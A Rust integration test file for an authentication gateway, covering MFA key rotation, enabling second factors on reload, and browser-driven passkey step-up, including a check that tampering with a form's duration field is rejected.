    let upstream = Upstream::start();
    let mut gateway = start(&upstream, "localhost");
    let mut alice = Browser::new(&gateway);
    let page = alice.go("/any");
    assert_eq!(alice.log_in(&page).answer.status(), 200);
    let (secret, recovery) = enrol(&mut alice);
    let shows = |gateway: &Gateway, code: &str| {
        let mut browser = Browser::new(gateway);
        let page = browser.go("/secret/plans");
        let page = browser.log_in(&page);
        let shown = browser.submit(&page, "name=\"code\"", &[("code", code)]);
        (shown.place, shown.answer.status())
    };
    let held = ("/secret/plans".to_owned(), 200);
    // The file is another one, and nothing says which key it was.
    let before = std::fs::read_to_string(gateway.site.path("mfa.key")).unwrap();
    gateway.site.file("mfa.key", "HxseHRwbGhkYFxYVFBMSERAPDg0MCwoJCAcGBQQDAgE=\n");
    gateway.reload("error");
    let events = gateway.events.all();
    let event = of_kind(&events, "policy.rejected").pop().unwrap();
    assert!(event["message"].as_str().unwrap().contains("name the key of before as `other_key`"), "{event:#}");
    assert_eq!(shows(&gateway, &recovery[0]), held);
    gateway.site.file("old.key", &before);
    let config = std::fs::read_to_string(gateway.site.path("portcullis.toml")).unwrap();
    let config = config.replace("[mfa]\n", "[mfa]\nother_key = { file = \"old.key\" }\n");
    gateway.site.file("portcullis.toml", &config);
    gateway.reload("ok");
    gateway.process.wait_for_line("second factors were sealed with the key of now");
    assert_eq!(shows(&gateway, &recovery[1]), held);
    gateway.site.file("portcullis.toml", &config.replace("other_key = { file = \"old.key\" }\n", ""));
    gateway.reload("ok");
    assert_eq!(shows(&gateway, &code(&secret, 0)), held);
}

#[test]
fn second_factors_are_turned_on_by_a_restart_and_nobody_is_led_to_a_page_before() {
    let upstream = Upstream::start();
    let mut site = site(&upstream, "localhost", NO_BANS);
    let config = site.path("portcullis.toml");
    let own = std::fs::read_to_string(site.write()).unwrap();
    let (before, _) = own.split_once("[mfa]").unwrap();
    site.replace_config(before);
    let mut gateway = site.start();
    let mut alice = Browser::new(&gateway);
    let page = alice.go("/secret/plans");
    let page = alice.log_in(&page);
    assert_eq!((page.place.as_str(), page.answer.status()), ("/secret/plans", 401), "{}", page.html());
    std::fs::write(&config, &own).unwrap();
    gateway.reload("ok");
    let page = alice.go("/secret/plans");
    assert_eq!((page.place.as_str(), page.answer.status()), ("/secret/plans", 401), "{}", page.html());
    gateway.process.wait_for_line("[mfa] enabled");
}

const PERSON: &str = r#"
const [own] = given;
const problems = [];
page.on('console', (line) => { if (line.type() === 'error') problems.push(line.text()); });
page.on('pageerror', (error) => problems.push(String(error)));
const devtools = await context.newCDPSession(page);
await devtools.send('WebAuthn.enable');
const options = { protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true, isUserVerified: true, automaticPresenceSimulation: true };
await devtools.send('WebAuthn.addVirtualAuthenticator', { options });
await page.goto(own + '/secret/plans');
await page.fill('input[name=name]', 'alice');
await page.fill('input[name=password]', 'correct horse');
await page.click('button[type=submit]');
const asked = page.url();
await page.goto(own + '/.portcullis/factors');
await page.click('text=Log in again to add one');
await page.fill('input[name=name]', 'alice');
await page.fill('input[name=password]', 'correct horse');
await page.click('button[type=submit]');
await page.fill('#passkey input[name=name]', 'this laptop');
await page.click('#passkey button[type=submit]');
await page.waitForSelector('text=Recovery codes');
const codes = await page.locator('li code').count();
await page.goto(own + '/secret/plans');
const again = page.url();
await page.click('#passkey button[type=submit]');
await page.waitForURL(own + '/secret/plans');
const status = await page.evaluate(async () => (await fetch('/secret/plans')).status);
return { asked, codes, again, end: page.url(), status, problems };
"#;

#[test]
fn a_passkey_of_a_real_browser_raises_the_session() {
    let upstream = Upstream::start();
    let gateway = start(&upstream, "localhost");
    let own = format!("http://localhost:{}", gateway.address.port());
    let seen = in_browser(PERSON, &[&own]);
    assert!(seen["asked"].as_str().unwrap().contains("/.portcullis/step-up?return=/secret/plans"), "{seen:#}");
    assert!(seen["again"].as_str().unwrap().contains("/.portcullis/step-up"), "{seen:#}");
    assert_eq!((&seen["codes"], &seen["problems"]), (&json!(10), &json!([])), "{seen:#}");
    assert_eq!((&seen["end"], &seen["status"]), (&json!(format!("{own}/secret/plans")), &json!(200)), "{seen:#}");
    let events = gateway.stop();
    let steps = of_kind(&events, "auth.step_up");
    assert_eq!(steps.len(), 1);
    assert!(steps[0]["message"].as_str().unwrap().ends_with("has shown a second factor: passkey"), "{}", steps[0]);
}

/// Alice is shown five minutes, and something has her authenticator asked while the form says sixty; then she goes on with what she was shown.
const ONE_ACT: &str = r#"
const [own] = given;
const devtools = await context.newCDPSession(page);
await devtools.send('WebAuthn.enable');
const options = { protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true, isUserVerified: true, automaticPresenceSimulation: true };
await devtools.send('WebAuthn.addVirtualAuthenticator', { options });
await page.goto(own + '/.portcullis/access');
await page.fill('input[name=name]', 'alice');
await page.fill('input[name=password]', 'correct horse');
await page.click('button[type=submit]');
await page.goto(own + '/.portcullis/factors');
await page.click('text=Log in again to add one');
await page.fill('input[name=name]', 'alice');
await page.fill('input[name=password]', 'correct horse');
await page.click('button[type=submit]');
await page.fill('#passkey input[name=name]', 'this laptop');
await page.click('#passkey button[type=submit]');
await page.waitForSelector('text=Recovery codes');
await context.clearCookies();
await page.goto(own + '/.portcullis/access');
await page.fill('input[name=name]', 'alice');
await page.fill('input[name=password]', 'correct horse');
await page.click('button[type=submit]');
const prepare = async () => {
  await page.goto(own + '/.portcullis/access');
  await page.fill('input[name=minutes]', '5');
  await page.fill('form:has(input[value=prepare]) input[name=justification]', 'INC-7');
  await page.click('form:has(input[value=prepare]) button[type=submit]');
  await page.waitForSelector('#passkey');
};
await prepare();
await page.evaluate(() => { document.querySelector('#passkey input[name=minutes]').value = '60'; });
await page.click('#passkey button[type=submit]');
await page.waitForSelector('p[role=alert]:has-text("begun elsewhere")');
const said = await page.textContent('p[role=alert]:has-text("begun elsewhere")');
await prepare();
await page.click('#passkey button[type=submit]');
await page.waitForSelector('text=in_force until');
return { said, end: page.url() };
"#;

#[test]
fn a_passkey_confirms_the_words_of_one_activation_and_no_others() {
    let upstream = Upstream::start();
    let gateway = with_access_at(&upstream, "localhost");
    let own = format!("http://localhost:{}", gateway.address.port());
    let seen = in_browser(ONE_ACT, &[&own]);
    assert!(seen["said"].as_str().unwrap().contains("begun elsewhere"), "{seen:#}");
    let listed = gateway.site.run(&["access", "list", "-o", "json"]);
    let listed: Value = serde_json::from_str(&listed.stdout.join("\n")).unwrap();
    let times: Vec<&Value> = listed["access"].as_array().unwrap().iter().map(|each| &each["for_s"]).collect();
    assert_eq!(times, [300], "what she was shown, and nothing else");
}
